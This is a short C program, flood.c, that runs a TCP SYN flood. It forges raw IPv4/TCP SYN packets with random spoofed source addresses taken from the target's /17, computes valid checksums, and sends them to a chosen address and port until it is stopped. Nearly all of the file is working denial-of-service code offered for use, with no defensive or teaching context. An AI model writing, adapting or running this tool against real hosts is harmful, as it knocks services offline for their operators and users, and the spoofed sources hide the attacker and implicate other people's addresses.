/*
 * flood.c - TCP SYNs from addresses that nobody has, until it is ended.
 *
 * usage: flood ADDRESS PORT      as root; sources are in ADDRESS's /17 above
 *
 * Says "flooding" when the first thousand are out.
 */
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>

struct packet {
    struct iphdr ip;
    struct tcphdr tcp;
};

/* The sum of 16-bit words [RFC 1071]. */
static uint32_t sum(const void *data, size_t n)
{
    const uint16_t *word = data;
    uint32_t total = 0;

    for (size_t i = 0; i < n / 2; i++)
        total += word[i];
    return total;
}

static uint16_t fold(uint32_t total)
{
    while (total >> 16)
        total = (total & 0xffff) + (total >> 16);
    return (uint16_t)~total;
}

static void make(struct packet *p, in_addr_t to, uint16_t port)
{
    uint32_t host = ntohl(to) | 0x8000 | (uint32_t)(random() & 0x7ffe);

    *p = (struct packet){
        .ip = {.version = 4,
               .ihl = 5,
               .ttl = 64,
               .protocol = IPPROTO_TCP,
               .tot_len = htons(sizeof(*p)),
               .saddr = htonl(host),
               .daddr = to},
        .tcp = {.source = htons((uint16_t)(1024 + random() % 60000)),
                .dest = htons(port),
                .seq = (uint32_t)random(),
                .doff = 5,
                .syn = 1,
                .window = htons(64240)},
    };
    p->ip.check = fold(sum(&p->ip, sizeof(p->ip)));
    p->tcp.check = fold(sum(&p->tcp, sizeof(p->tcp)) + sum(&p->ip.saddr, 8) +
                        htons(IPPROTO_TCP) + htons(sizeof(p->tcp)));
}

int main(int argc, char **argv)
{
    struct sockaddr_in to = {.sin_family = AF_INET};
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

    if (argc != 3 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
        errx(2, "usage: flood ADDRESS PORT");
    if (fd < 0)
        err(1, "raw socket");
    for (long i = 0;; i++) {
        struct packet p;
        make(&p, to.sin_addr.s_addr, (uint16_t)atoi(argv[2]));
        if (sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to, sizeof(to)) <
                0 &&
            errno != ENOBUFS)
            err(1, "SYN %ld", i);
        if (i == 1000) {
            puts("flooding");
            fflush(stdout);
        }
    }
}
